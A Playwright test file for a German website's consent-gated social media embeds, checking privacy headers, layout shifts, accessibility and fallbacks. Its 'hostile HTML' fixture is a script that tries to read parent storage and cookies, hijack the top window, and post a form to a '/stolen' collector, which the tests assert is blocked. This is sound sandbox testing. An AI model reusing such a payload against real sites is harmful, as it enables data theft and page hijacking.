import type { Locator, Page } from '@playwright/test'
import { forgetShifts, recordedShifts, recordShifts } from './fixtures/layout.ts'
import { type Network, startNetwork, withHtml } from './fixtures/network.ts'
import { startSite } from './fixtures/site.ts'
import { test as base, expect } from './fixtures/test.ts'

/** Tests on an installation with an oEmbed endpoint. */
const test = base.extend<object, { network: Network }>({
  network: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern
    async ({}, use) => {
      const network = await startNetwork()
      await use(network)
      await network.stop()
    },
    { scope: 'worker' },
  ],
  site: [
    async ({ network }, use) => {
      const site = await startSite({ OEMBED_URL: network.endpoint })
      await use(site)
      await site.stop()
    },
    { scope: 'worker', timeout: 60_000 },
  ],
  allowedOrigins: async ({ network }, use) => use([network.origin]),
})

// One installation for all.
test.describe.configure({ mode: 'default' })

const POSTS = ['weihnachtsdorf', 'verkaufsoffen', 'gutschein']
const section = (page: Page) => page.getByRole('region', { name: 'Unterwegs mit der Kamera' })
const posts = (page: Page) => section(page).getByRole('article')
const frames = (page: Page) => section(page).locator('iframe')
const links = (page: Page) => section(page).getByRole('link', { name: /Beitrag ansehen/ })
const load = (page: Page) => section(page).getByRole('button', { name: 'Beiträge laden' })
const stop = (page: Page) => section(page).getByRole('button', { name: 'Nicht mehr laden' })

test('requests the network after one press, which loads all three and is remembered until another one, without cookies and a referrer; each post has a name, a link to its source, and links that open in a new tab', async ({
  page,
  network,
}) => {
  network.respond(withHtml(`<a href="${network.origin}/p/a">Zum Netzwerk</a>`))
  await page.context().addCookies([{ name: 'known', value: 'visitor', url: network.origin }])
  await page.goto('/?suche=geheim')
  await links(page).last().scrollIntoViewIfNeeded()
  await page.waitForLoadState('networkidle')
  await expect(links(page)).toHaveCount(3)
  expect(network.requested).toEqual([])

  const request = page.waitForRequest((request) => request.url().startsWith(network.endpoint))
  await load(page).press('Enter')
  const headers = await (await request).allHeaders()
  expect(headers).not.toHaveProperty('cookie')
  expect(headers).not.toHaveProperty('referer')
  await expect(frames(page)).toHaveCount(3)
  await expect(stop(page)).toBeFocused()
  await requestAfterNextFrame(page, `${network.origin}/last`)
  const wanted = POSTS.map(
    (post) =>
      `/oembed?key=public&url=${encodeURIComponent(`https://photos.example/p/${post}`)}&maxwidth=320&hidecaption=true`,
  )
  expect([...network.requested].sort()).toEqual(['/last', ...wanted].sort())

  await expect(frames(page).first()).toHaveAttribute(
    'title',
    'Eingebetteter Beitrag: Das Weihnachtsdorf wird aufgebaut',
  )
  await expect(links(page).first()).toHaveAttribute('href', 'https://photos.example/p/weihnachtsdorf')
  const opened = page.waitForEvent('popup')
  await inside(frames(page).first()).getByRole('link', { name: 'Zum Netzwerk' }).click()
  await expect(await opened).toHaveURL(`${network.origin}/p/a`)
  expect(await (await opened).evaluate(() => [opener, document.referrer])).toEqual([null, ''])
  await expect(page).toHaveURL('/?suche=geheim')

  await page.reload()
  await expect(frames(page)).toHaveCount(3)
  await stop(page).click()
  await expect(frames(page)).toHaveCount(0)
  await page.reload()
  await expect(load(page)).toBeVisible()
  await expect(frames(page)).toHaveCount(0)
})

const LONG_POST = withHtml('<div id="photo">Ein Beitrag</div><script>photo.style.height = "700px"</script>')

test('loading posts causes no layout shift: a long post scrolls inside its frame where growing would move the visible content, and else grows; neither pending nor loaded posts have accessibility violations', async ({
  page,
  network,
  accessibilityFindings,
}) => {
  await recordShifts(page)
  network.respond(null)
  await page.setViewportSize({ width: 1280, height: 1600 })
  await page.goto('/')
  await makeRoom(page)
  await links(page).last().scrollIntoViewIfNeeded()
  await expect(links(page)).toHaveCount(3)
  expect(await accessibilityFindings('[aria-labelledby=social]')).toEqual([])
  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
  const kept = await boxes(page)

  network.respond(LONG_POST)
  await expect(section(page).locator('article[aria-busy=false] iframe')).toHaveCount(3)
  await expect(inside(frames(page).first()).locator('#photo')).toHaveCSS('height', '700px')
  await requestAfterNextFrame(page, `${network.origin}/last`)
  await expect(frames(page).first()).toHaveCSS('height', '560px')
  expect(await boxes(page)).toEqual(kept)
  expect(await recordedShifts(page)).toEqual([])
  expect(await accessibilityFindings()).toEqual([])

  // Below a small window, out of sight, a long post grows.
  await page.setViewportSize({ width: 320, height: 500 })
  await page.reload()
  await expect(frames(page)).toHaveCount(3)
  await posts(page)
    .first()
    .evaluate((post) => post.scrollIntoView({ block: 'start' }))
  await expect(frames(page).first()).toHaveCSS('height', '700px')
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320)
})

test.describe('hostile HTML', () => {
  test.use({
    allowedConsoleMessages: [
      'Blocked',
      'blocked',
      'sandbox',
      'Content Security Policy',
      'Refused',
      'Unsafe attempt',
    ],
  })

  test('cannot access the page, its storage or its URL', async ({ page, network }) => {
    network.respond(withHtml(hostileHtml(network.origin)))
    await page.goto('/')
    await page.evaluate(() => localStorage.setItem('userIdentifier', 'secret'))
    await load(page).click()
    const outcomes = inside(frames(page).first()).getByRole('listitem')
    await expect(outcomes).toHaveText([
      'page: SecurityError',
      'storage: SecurityError',
      'cookies: SecurityError',
      'address: SecurityError',
      'origin: null',
      'tried everything',
    ])
    await requestAfterNextFrame(page, `${network.origin}/last`)
    await expect(page).toHaveURL('/')
    await expect(page).toHaveTitle(/Gewerbeverein/)
    expect(network.requested.filter((path) => path.startsWith('/stolen'))).toEqual([])
    expect(
      await frames(page)
        .first()
        .evaluate((frame) => frame.clientHeight),
    ).toBeLessThanOrEqual(900)
  })
})

test("the frame's document is sandboxed, and empty when opened on its own", async ({ page, network }) => {
  const answer = await page.goto('/beitrag-im-rahmen', { waitUntil: 'commit' })
  const policy = answer?.headers()['content-security-policy']
  expect(policy).toMatch(/^sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox;/)
  expect(policy).toContain("frame-ancestors 'self'")
  expect(policy).toContain(network.origin)
  await page.evaluate(async () => {
    const received = new Promise((done) => window.addEventListener('message', done))
    window.postMessage('<p>Von Fremden</p>', '*')
    await received
  })
  expect(await page.evaluate(() => self.origin)).toBe('null')
  await expect(page.locator('#post')).toBeEmpty()
})

test.describe('when the network fails', () => {
  test.use({ allowedConsoleMessages: ['A post could not be embedded', 'Failed to load resource'] })

  test('each post is a link, without a layout shift or accessibility violations', async ({
    page,
    network,
    accessibilityFindings,
  }) => {
    await recordShifts(page)
    network.respond(null)
    await page.goto('/')
    await makeRoom(page)
    expect(network.requested).toHaveLength(3)
    network.respond({ status: 500, body: 'Oops' })
    await expect(section(page).getByText('Dieser Beitrag ließ sich nicht laden.')).toHaveCount(3)
    await expect(section(page).locator('img')).toHaveCount(3)
    await expect(section(page).locator('[aria-busy=true], iframe')).toHaveCount(0)
    await expect(links(page)).toHaveCount(3)
    expect(await recordedShifts(page)).toEqual([])
    expect(await accessibilityFindings()).toEqual([])
  })
})

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  test('each post is a link, and the network is not requested', async ({ page, network }) => {
    network.respond(withHtml('<p>Ein Beitrag</p>'))
    await page.goto('/')
    await section(page).scrollIntoViewIfNeeded()
    await expect(links(page)).toHaveCount(3)
    for (const link of await links(page).all()) await expect(link).toHaveAttribute('href', /^https:/)
    await expect(frames(page)).toHaveCount(0)
    await expect(section(page).getByRole('button')).toHaveCount(0)
    const { width, height } = (await section(page).locator('img').first().boundingBox()) ?? {}
    expect(height).toBe(width)
    expect(network.requested).toEqual([])
  })
})

/** Loads the posts, whose answers are pending; the press itself makes room for them. */
async function makeRoom(page: Page): Promise<void> {
  await page.evaluate(() => document.fonts.ready)
  await load(page).click()
  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
  await requestAfterNextFrame(page, '/robots.txt')
  await forgetShifts(page)
}

/** Requests caused by scrolling are sent before this. */
async function requestAfterNextFrame(page: Page, address: string): Promise<void> {
  await page.evaluate(async (last) => {
    await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))
    await fetch(last)
  }, address)
}

const inside = (frame: Locator) => frame.contentFrame()

const boxes = (page: Page) =>
  posts(page).evaluateAll((all) => all.map((post) => post.getBoundingClientRect().toJSON()))

/** Tries forbidden actions and returns their results. */
const hostileHtml = (collector: string) => `
<ul id="outcomes"></ul>
<form id="form" method="post" action="${collector}/stolen-form"><input name="a" value="b"></form>
<script>
  const say = (what) => outcomes.appendChild(document.createElement('li')).textContent = what
  const attempt = (name, act) => { try { act(); say(name + ': worked') } catch (error) { say(name + ': ' + error.name) } }
  attempt('page', () => { parent.document.title = 'Gekapert' })
  attempt('storage', () => localStorage.getItem('userIdentifier'))
  attempt('cookies', () => document.cookie)
  attempt('address', () => { top.location.href = '${collector}/stolen-address' })
  form.submit()
  for (const height of [1e9, -1, NaN, '5000', { height: 5000 }]) parent.postMessage(height, '*')
  say('origin: ' + self.origin)
  say('tried everything')
</script>`
